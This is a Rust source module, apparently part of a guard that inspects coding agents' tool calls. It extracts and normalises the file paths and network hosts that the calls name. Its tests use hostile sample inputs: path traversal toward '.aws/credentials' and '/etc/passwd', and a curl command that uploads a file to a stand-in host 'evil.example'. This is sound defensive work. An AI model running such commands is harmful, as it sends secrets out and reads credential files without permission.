//! What the arguments of a tool call name: texts by their place, files, hosts. Reads them once, and each kind only when a rule asks.

use std::borrow::Cow;
use std::cell::OnceCell;

use lockgate_core::content::ToolCall;
use serde_json::Value;

/// What a tool call names.
#[derive(Default)]
pub(super) struct Seen {
    arguments: Value,
    hosts: OnceCell<Vec<String>>,
    paths: OnceCell<Vec<String>>,
}

/// Names of arguments that are files or folders, as the tools of coding agents have them.
const PATHS: [&str; 14] = [
    "absolute_path",
    "cwd",
    "destination",
    "dir_path",
    "directory",
    "file",
    "file_path",
    "filename",
    "notebook_path",
    "path",
    "paths",
    "source",
    "target_file",
    "workdir",
];

impl Seen {
    pub(super) fn of(call: &ToolCall) -> Self {
        let arguments = match call.object() {
            Some(object) => Value::Object(object),
            // Free text, or JSON that cannot be read.
            None => serde_json::json!({ "input": call.arguments }),
        };
        Self { arguments, ..Self::default() }
    }

    pub(super) fn arguments(&self) -> &Value {
        &self.arguments
    }

    /// An argument as text; `a.b` is one inside another.
    pub(super) fn argument(&self, name: &str) -> Option<Cow<'_, str>> {
        let mut value = &self.arguments;
        if let Some(whole) = value.get(name) {
            value = whole;
        } else {
            for step in name.split('.') {
                value = value.get(step)?;
            }
        }
        Some(match value {
            Value::String(text) => Cow::Borrowed(text),
            other => Cow::Owned(other.to_string()),
        })
    }

    /// Files that it names, with `.`, `..` and `~` taken out.
    pub(super) fn paths(&self) -> &[String] {
        self.paths.get_or_init(|| {
            let mut paths = Vec::new();
            let members = self.arguments.as_object().into_iter().flatten();
            for (_, value) in members.filter(|(name, _)| PATHS.contains(&name.to_lowercase().as_str())) {
                texts(value, 0, &mut |text| paths.push(resolved(text)));
            }
            paths
        })
    }

    /// Hosts of the addresses that it names.
    pub(super) fn hosts(&self) -> &[String] {
        self.hosts.get_or_init(|| {
            let mut hosts = Vec::new();
            texts(&self.arguments, 0, &mut |text| hosts.extend(hosts_in(text)));
            hosts
        })
    }
}

/// Every text in a value, however deep.
fn texts(value: &Value, depth: u8, each: &mut impl FnMut(&str)) {
    match value {
        Value::String(text) => each(text),
        Value::Array(values) if depth < 64 => {
            for value in values {
                texts(value, depth + 1, each);
            }
        }
        Value::Object(members) if depth < 64 => {
            for value in members.values() {
                texts(value, depth + 1, each);
            }
        }
        Value::Array(_) | Value::Bool(_) | Value::Null | Value::Number(_) | Value::Object(_) => {}
    }
}

/// A path without `.`, `..`, doubled and turned-around slashes; `~` and `$HOME` are `/~`.
pub(super) fn resolved(path: &str) -> String {
    let path = path.replace('\\', "/");
    let path = ["~/", "$HOME/", "${HOME}/"]
        .iter()
        .find_map(|home| path.strip_prefix(home))
        .map_or_else(|| path.clone(), |rest| format!("/~/{rest}"));
    let absolute = path.starts_with('/');
    let mut steps: Vec<&str> = Vec::new();
    for step in path.split('/') {
        match step {
            "" | "." => {}
            ".." if steps.last().is_some_and(|last| *last != "..") => {
                steps.pop();
            }
            ".." if absolute => {}
            step => steps.push(step),
        }
    }
    let joined = steps.join("/");
    if absolute { format!("/{joined}") } else { joined }
}

/// Hosts behind `//` in a text, in lower case, without user and port.
pub(crate) fn hosts_in(text: &str) -> Vec<String> {
    let mut hosts = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find("//") {
        rest = &rest[at + 2..];
        let end =
            rest.find(|c: char| c.is_whitespace() || "/?#\"'`<>\\|;&)(".contains(c)).unwrap_or(rest.len());
        let authority = &rest[..end];
        let host = authority.rsplit('@').next().unwrap_or(authority);
        let host = match host.strip_prefix('[') {
            Some(six) => six.split(']').next().unwrap_or(six),
            None => host.split(':').next().unwrap_or(host),
        };
        let host = host.trim_end_matches('.').to_lowercase();
        if !host.is_empty() {
            hosts.push(host);
        }
    }
    hosts
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_are_compared_without_detours() {
        for (path, plain) in [
            ("/a/./b//c/../d", "/a/b/d"),
            ("~/.ssh/../.aws/credentials", "/~/.aws/credentials"),
            ("$HOME/x", "/~/x"),
            ("..\\..\\etc\\passwd", "../../etc/passwd"),
            ("/../../etc", "/etc"),
            ("a/..", ""),
        ] {
            assert_eq!(resolved(path), plain);
        }
    }

    #[test]
    fn hosts_are_found_in_commands_and_addresses() {
        let hosts = hosts_in(
            "curl -d @x 'https://u:p@Evil.example.:8443/a?b=//inner.example' http://[::1]:80/ ftp://f",
        );
        assert_eq!(hosts, ["evil.example", "inner.example", "::1", "f"]);
    }
}
